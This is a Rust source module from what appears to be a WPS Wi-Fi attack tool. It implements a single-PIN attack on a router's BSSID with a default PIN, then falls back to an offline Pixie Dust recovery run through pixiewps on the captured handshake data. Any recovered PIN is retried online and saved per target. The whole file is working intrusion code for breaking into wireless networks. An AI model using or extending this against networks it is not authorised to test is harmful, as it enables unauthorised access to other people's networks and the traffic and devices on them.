//! Single-PIN attack with optional offline recovery.
//!
//! In recovery mode a failed attempt still leaves the handshake
//! parameters behind; those go to the recovery tool, and a recovered PIN
//! is tried once more online.

use tracing::{info, warn};

use super::session::AttackSession;
use crate::control::WpsEngine;
use crate::domain::{AttackOutcome, MacAddress};
use crate::error::{AttackError, RecoveryError, StoreError};
use crate::pin::WpsPinGenerator;
use crate::recovery::PixieCommand;
use crate::reporter::Severity;
use crate::store::SessionStore;

/// Fallback when nothing better is known about the target.
pub const DEFAULT_PIN: &str = "12345670";

/// Options for `PinAttack`.
#[derive(Debug, Clone)]
pub struct PinAttackOptions {
    /// Run the recovery tool when the online attempt fails.
    pub pixie: bool,
    /// Print the recovery command before running it.
    pub show_command: bool,
    /// Ask the recovery tool for its exhaustive mode.
    pub full_range: bool,
    /// Recovery tool binary.
    pub pixiewps: String,
}

impl Default for PinAttackOptions {
    fn default() -> Self {
        Self {
            pixie: false,
            show_command: false,
            full_range: false,
            pixiewps: "pixiewps".to_string(),
        }
    }
}

/// One PIN against one target, optionally followed by offline recovery.
pub struct PinAttack<'s, E: WpsEngine> {
    session: &'s mut AttackSession<E>,
    sessions: Option<SessionStore>,
    options: PinAttackOptions,
}

impl<'s, E: WpsEngine> PinAttack<'s, E> {
    pub fn new(session: &'s mut AttackSession<E>, options: PinAttackOptions) -> Self {
        Self {
            session,
            sessions: None,
            options,
        }
    }

    /// Keep recovered-PIN hints in this store.
    pub fn with_sessions(mut self, sessions: SessionStore) -> Self {
        self.sessions = Some(sessions);
        self
    }

    /// PIN to try when the operator gave none.
    ///
    /// In recovery mode a stored hint wins if `accept_stored` agrees;
    /// then the likely PIN, then `DEFAULT_PIN`.
    pub fn default_pin(
        &self,
        bssid: MacAddress,
        generator: &WpsPinGenerator,
        accept_stored: impl FnOnce(&str) -> bool,
    ) -> String {
        if self.options.pixie {
            if let Some(stored) = self.stored_pin(bssid) {
                if accept_stored(&stored) {
                    return stored;
                }
            }
        }
        generator
            .likely(bssid)
            .unwrap_or_else(|| DEFAULT_PIN.to_string())
    }

    /// Try `pin`; in recovery mode follow a failure with offline recovery.
    ///
    /// Returns the outcome of the last online attempt. A recovery tool
    /// that cannot run is reported and leaves the online outcome as is.
    pub fn run(&mut self, bssid: MacAddress, pin: &str) -> Result<AttackOutcome, AttackError> {
        let outcome = self.try_pin(bssid, pin, false)?;
        if outcome.success || !self.options.pixie {
            return Ok(outcome);
        }

        let command = match PixieCommand::new(
            &self.options.pixiewps,
            self.session.params(),
            self.options.full_range,
        ) {
            Ok(command) => command,
            Err(RecoveryError::IncompleteHandshakeData(missing)) => {
                warn!("Not enough data to run {}: missing {}", self.options.pixiewps, missing);
                self.session.reporter().notice(
                    Severity::Error,
                    &format!("Not enough data to run Pixie Dust attack (missing {})", missing),
                );
                return Ok(outcome);
            }
            Err(e) => return Err(e.into()),
        };

        self.session
            .reporter()
            .notice(Severity::Info, "Running Pixiewps...");
        if self.options.show_command {
            self.session
                .reporter()
                .notice(Severity::Info, &command.to_string());
        }

        match command.run() {
            Ok(Some(recovered)) => {
                info!("Recovered PIN {} for {}", recovered, bssid);
                self.session.reporter().notice(
                    Severity::Success,
                    &format!("Pixiewps found PIN: {}", recovered),
                );
                self.try_pin(bssid, recovered.as_pin(), true)
            }
            Ok(None) => {
                self.session
                    .reporter()
                    .notice(Severity::Error, "Pixiewps fail");
                Ok(outcome)
            }
            Err(e) => {
                warn!("{}", e);
                self.session
                    .reporter()
                    .notice(Severity::Error, &e.to_string());
                Ok(outcome)
            }
        }
    }

    fn try_pin(
        &mut self,
        bssid: MacAddress,
        pin: &str,
        store_on_fail: bool,
    ) -> Result<AttackOutcome, AttackError> {
        let outcome = match self.session.attempt(bssid, pin) {
            Ok(outcome) => outcome,
            Err(e) => {
                if store_on_fail {
                    self.store_pin(bssid, pin);
                }
                return Err(e);
            }
        };

        if outcome.success {
            self.clear_pin(bssid);
        } else if store_on_fail {
            self.store_pin(bssid, pin);
        }
        Ok(outcome)
    }

    fn stored_pin(&self, bssid: MacAddress) -> Option<String> {
        let sessions = self.sessions.as_ref()?;
        sessions.load_pin(bssid).unwrap_or_else(|e| {
            warn!("Failed to read stored PIN: {}", e);
            None
        })
    }

    fn store_pin(&self, bssid: MacAddress, pin: &str) {
        let Some(sessions) = &self.sessions else {
            return;
        };
        match sessions.save_pin(bssid, pin) {
            Ok(()) => self.session.reporter().notice(
                Severity::Info,
                &format!("PIN saved in {}", sessions.pin_path(bssid).display()),
            ),
            Err(e) => log_store_error(&e),
        }
    }

    fn clear_pin(&self, bssid: MacAddress) {
        if let Some(sessions) = &self.sessions {
            if let Err(e) = sessions.clear_pin(bssid) {
                log_store_error(&e);
            }
        }
    }
}

fn log_store_error(e: &StoreError) {
    warn!("Failed to update stored PIN: {}", e);
}
